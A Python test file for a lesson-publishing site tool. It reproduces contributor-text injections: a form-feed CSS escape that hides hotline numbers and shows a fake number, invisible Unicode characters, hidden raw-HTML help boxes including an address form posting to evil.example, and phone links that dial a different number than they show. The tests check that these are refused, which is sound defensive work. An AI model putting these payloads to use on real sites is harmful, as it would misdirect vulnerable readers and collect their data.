"""Text meets a language: CSS in the handout, <title>, raw HTML, tel: links, file names.

Each test is a reproduction from issue 18: a contributor's text that once escaped the
language it was placed in. `check` must refuse it at its line, and where a careless
site downgrades that finding, the output (the printed PDF, the built page, the
sitemap, the offline zip) must still show only what was written, as text.
"""

from __future__ import annotations

import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from test_validate import check, edit

from signpost.checks.pipeline import check_project

LESSON = "lessons/spotting-secrets/index.md"
TITLE = "title: Spotting unsafe secrets"
# A form feed ends a CSS string; what follows it became rules of the handout's stylesheet.
FORM_FEED_TITLE = (
    'title: "Spotting\\f} } .lines, .emergency { display: none } '
    "body::before { content: 'CALL 1-555' '-555-0100' } @page { @bottom-left { content: 'x\""
)


def downgrade(root: Path, *codes: str) -> None:
    """What a careless site owner can do in signpost.yml: findings become warnings."""
    config = root / "signpost.yml"
    config.write_text(
        config.read_text() + "checks:\n" + "".join(f"  {c}: warning\n" for c in codes),
        encoding="utf-8",
    )


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Every element of a built page as a browser would read its tags."""
    found: list[tuple[str, dict[str, str | None]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, dict(attrs)))

    Reader().feed(html)
    return found


def pdf_text(pdf: bytes) -> str:
    if not shutil.which("pdftotext"):
        pytest.skip("reading the printed PDF needs pdftotext: apt-get install poppler-utils")
    done = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True)
    return " ".join(done.stdout.decode("utf-8").split())


def test_a_form_feed_in_a_title_is_refused(project: Path, capsys) -> None:
    edit(project, LESSON, TITLE, FORM_FEED_TITLE)
    code, out = check(project, capsys)
    assert code == 1
    assert f"{LESSON}:2: control-character" in out, out


def test_a_form_feed_in_a_title_cannot_restyle_the_printed_handout(project: Path) -> None:
    from signpost.handouts.document import Builder
    from signpost.handouts.render import render_pdf

    edit(project, LESSON, TITLE, FORM_FEED_TITLE)
    downgrade(project, "control-character", "markup-in-text")
    checked = check_project(project)
    assert not checked.report.errors, checked.report.errors
    lesson = next(x for x in checked.lessons if x.id == "spotting-secrets")
    doc = Builder(checked, "en").handout(lesson, "a4")
    text = pdf_text(render_pdf(doc.html, (str(project),), b"0" * 32))
    assert "CALL 1-555-555-0100" not in text, text
    assert "911" in text and "1-800-422-4453" in text and ".emergency { display: none }" in text, (
        text
    )


@pytest.mark.parametrize(
    ("old", "new", "line"),
    [
        (TITLE, 'title: "Spotting \\u202eterces\\u202c secrets"', 2),
        (
            "  - By the end, you can tell a surprise from an unsafe secret.",
            '  - "By the end, you can\\u200b tell a surprise from an unsafe secret."',
            9,
        ),
        ("  - title: DHS Blue Campaign", '  - title: "DHS Blue\\u2066 Campaign"', 15),
    ],
    ids=["bidi override in a title", "zero-width in an objective", "isolate in a source"],
)
def test_invisible_characters_written_as_yaml_escapes_are_refused(
    project: Path, capsys, old: str, new: str, line: int
) -> None:
    edit(project, LESSON, old, new)
    code, out = check(project, capsys)
    assert code == 1
    assert f"{LESSON}:{line}: invisible-character" in out, out


# A fake help box with an address form, hidden from a scanner that reads tags with a
# regular expression: a quoted `<` or `>`, or a backslash that makes a backtick text.
FAKE_HELP = [
    (
        "quoted less-than",
        '<div title="<" class="sp-help" role="note">Call 555</div>',
    ),
    ("quoted greater-than", '<span title=">" class="sp-help" hidden>Call 555</span>'),
    (
        "escaped backtick",
        '\\` <div class="sp-help"><form action="https://evil.example"><input name="address">'
        "<button>Send</button></form></div> `",
    ),
]


@pytest.mark.parametrize("html", [c[1] for c in FAKE_HELP], ids=[c[0] for c in FAKE_HELP])
def test_hidden_raw_html_is_refused(project: Path, capsys, html: str) -> None:
    edit(project, LESSON, "A surprise is fun.", f"{html}\n\nA surprise is fun.")
    code, out = check(project, capsys)
    assert code == 1
    assert f"{LESSON}:25: unsafe-html" in out, out


def test_hidden_raw_html_does_not_reach_the_page(project: Path) -> None:
    from signpost.build.build import build_site

    body = "\n\n".join(c[1] for c in FAKE_HELP)
    edit(project, LESSON, "A surprise is fun.", f"{body}\n\nA surprise is fun.")
    downgrade(project, "unsafe-html")
    assert build_site(project, handouts=False, languages=["en"]) == 0
    page = (project / "site/en/lessons/spotting-secrets/index.html").read_text(encoding="utf-8")
    article = page.split('<article class="md-content__inner', 1)[1].split("</article>")[0]
    tags = elements(article)
    assert [t for t, a in tags if a.get("class") == "sp-help"] == ["aside"]  # the real one
    assert not [t for t, _ in tags if t in ("form", "input", "button")]
    assert not [t for t, a in tags if t in ("div", "span") and {"hidden", "role"} & set(a)]


@pytest.mark.parametrize(
    "link",
    [
        "[1-888-373-7888](tel:+15555550100)",
        '<a href="tel:+1%35%35%35%35%35%35%30100">1-888-373-7888</a>',
        "[Text 233733](sms:5555550100)",
    ],
    ids=["markdown link", "percent-encoded digits", "sms link"],
)
def test_a_phone_link_must_dial_what_it_shows(project: Path, capsys, link: str) -> None:
    edit(project, LESSON, "A surprise is fun.", f"Call {link}.\n\nA surprise is fun.")
    code, out = check(project, capsys)
    assert code == 1
    assert f"{LESSON}:25: tel-link" in out, out


def test_phone_links_that_dial_what_they_show_or_a_hotline_pass(project: Path, capsys) -> None:
    links = "[1-888-373-7888](tel:+18883737888), [the hotline](tel:18883737888), [988](sms:988)"
    edit(project, LESSON, "A surprise is fun.", f"Call {links}.\n\nA surprise is fun.")
    code, out = check(project, capsys)
    assert code == 0, out


def test_a_phone_link_that_dials_another_number_is_removed(project: Path) -> None:
    from signpost.build.build import build_site

    edit(
        project,
        LESSON,
        "A surprise is fun.",
        "Call [1-888-373-7888](tel:+15555550100) or "
        '<a href="tel:+1%35%35%35%35%35%35%30100">1-888-373-7888</a>.\n\nA surprise is fun.',
    )
    downgrade(project, "tel-link")
    assert build_site(project, handouts=False, languages=["en"]) == 0
    page = (project / "site/en/lessons/spotting-secrets/index.html").read_text(encoding="utf-8")
    hrefs = [a.get("href") or "" for t, a in elements(page) if t == "a"]
    assert not [h for h in hrefs if h.startswith("tel:") and "5555550100" in h.replace("%3", "")]
    assert "%35" not in page and "5555550100" not in page


@pytest.mark.parametrize(
    "name", ["docs/q&a.md", "lessons/spotting-secrets/a\\b.png", "docs/ünïcode.md"]
)
def test_unsafe_file_names_are_refused(project: Path, capsys, name: str) -> None:
    if name.endswith(".md"):
        shutil.copyfile(project / "docs/index.md", project / name)
    else:
        (project / name).write_bytes(b"\x89PNG\r\n\x1a\n")
    code, out = check(project, capsys)
    assert code == 1
    assert f"{name}:1: file-name" in out, out


def test_a_file_name_cannot_break_the_sitemap(project: Path) -> None:
    import xml.etree.ElementTree as ET

    from signpost.build.site import sitemap_xml

    shutil.copyfile(project / "docs/index.md", project / "docs/q&a.md")
    downgrade(project, "file-name")
    checked = check_project(project)
    assert not checked.report.errors, checked.report.errors
    locs = [e.text for e in ET.fromstring(sitemap_xml(checked)).iter() if e.tag.endswith("loc")]
    assert any(loc.endswith("/en/q%26a/") for loc in locs), locs
